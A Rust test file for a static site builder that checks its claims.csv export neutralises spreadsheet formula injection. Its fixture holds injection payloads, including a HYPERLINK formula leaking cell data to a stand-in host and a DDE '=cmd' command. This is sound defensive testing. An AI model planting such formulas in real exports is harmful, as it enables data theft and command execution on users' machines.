//! Content written to break the output: spreadsheet formulas in text that goes into
//! `claims.csv`, characters XML and HTML forbid, remote images, bidi overrides and long
//! unbroken words. Each test builds the valid fixture with such content laid over it and
//! parses what comes out.

mod common;

use std::path::{Path, PathBuf};

use common::{fixture, options, temp_dir};

const BASE: &str = "https://example.org/briefing/";

/// A copy of the valid fixture site in a fresh folder, with `files` (path, text) written
/// over it.
fn site_with(files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
    let tmp = temp_dir("hostile");
    let root = tmp.path().join("site");
    let valid = fixture("valid");
    for entry in walkdir::WalkDir::new(&valid) {
        let entry = entry.unwrap();
        let target = root.join(entry.path().strip_prefix(&valid).unwrap());
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
    for (path, text) in files {
        let path = root.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    (tmp, root)
}

/// Builds `root` with `base_url` set (so the feed and sitemap are written) into a folder
/// beside it, panicking with the diagnostics on failure.
fn build(root: &Path) -> PathBuf {
    let out = root.with_file_name("public");
    let report = sitrep::cmd::build::build(&options(root, &out, Some(BASE)));
    if let Err(diagnostics) = report {
        panic!("build failed: {diagnostics:?}");
    }
    out
}

/// A source without an archive, so quotes from it need not occur anywhere.
const UNARCHIVED_SOURCE: &str = "title: Unarchived report\noutlet: Example Post\npublished: Sunday\nlanguage: en\nkind: newspaper\n";

/// A figure whose text fields start with (or contain, after a separator or quote) the
/// characters that make spreadsheets run a cell as a formula.
const FORMULA_FIGURE: &str = r#"label: "=HYPERLINK(\"http://example.org/?leak=\"&A1)"
unit: "+people"
definition: "@SUM(1+1)"
claims:
  - value: 1.5
    qualifier: about
    source: unarchived
    stated_by: {party: police, person: "-Officer", role: "\t=cmd|' /C calc'!A0"}
    rank: disputed
    rank_reason: "\r=1+1"
    quote: "Nearly 2;=1+2 or \"-3\", said one,@x"
"#;

/// Whether a spreadsheet could read `cell` (or a cell split off inside it at a separator,
/// quote mark or line break) as a formula: a formula character that starts the text
/// (after spaces) or follows such a character, with no `'` before it.
fn could_run_as_formula(cell: &str) -> bool {
    let formula = |c: char| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r');
    let splits = |c: char| matches!(c, ',' | ';' | '\t' | '"' | '\'' | '\n' | '\r');
    if cell.trim_start_matches(' ').starts_with(formula) {
        return true;
    }
    let chars: Vec<char> = cell.chars().collect();
    chars
        .windows(2)
        .any(|w| splits(w[0]) && w[0] != '\'' && formula(w[1]))
}

#[test]
fn claims_csv_cells_do_not_run_as_formulas_and_numbers_stay_numbers() {
    let (_tmp, root) = site_with(&[
        ("content/sources/unarchived.yaml", UNARCHIVED_SOURCE),
        ("content/figures/formulas.yaml", FORMULA_FIGURE),
    ]);
    let out = build(&root);
    let mut reader = csv::Reader::from_path(out.join("data/claims.csv")).unwrap();
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cell = |row: &csv::StringRecord, name: &str| {
        let at = headers.iter().position(|h| h == name).unwrap();
        row[at].to_string()
    };
    let numeric = ["value", "low", "high", "bound_low", "bound_high", "point"];
    for row in &rows {
        for (name, value) in headers.iter().zip(row) {
            if numeric.contains(&name) {
                assert!(
                    value.is_empty() || value.parse::<f64>().is_ok(),
                    "{name} = {value:?} is not a number"
                );
            } else {
                assert!(!could_run_as_formula(value), "{name} = {value:?}");
            }
        }
    }
    let row = rows
        .iter()
        .find(|row| cell(row, "figure_id") == "formulas")
        .expect("the formulas figure's claim");
    // Each text keeps its characters, with a `'` at the start (it starts with a formula
    // character) and before each formula character after a separator or quote.
    let expected = [
        (
            "figure_label",
            r#"'=HYPERLINK("http://example.org/?leak="&A1)"#,
        ),
        ("unit", "'+people"),
        ("person", "'-Officer"),
        ("role", "'\t'=cmd|' /C calc'!A0"),
        ("rank_reason", "'\r'=1+1"),
        ("quote", "Nearly 2;'=1+2 or \"'-3\", said one,'@x"),
    ];
    for (name, value) in expected {
        assert_eq!(cell(row, name), value, "{name}");
    }
    // A number column keeps its number: the claim's value 1.5, which `about` turns into
    // the point 1.5 as well.
    assert_eq!(cell(row, "value"), "1.5");
    assert_eq!(cell(row, "point"), "1.5");
}
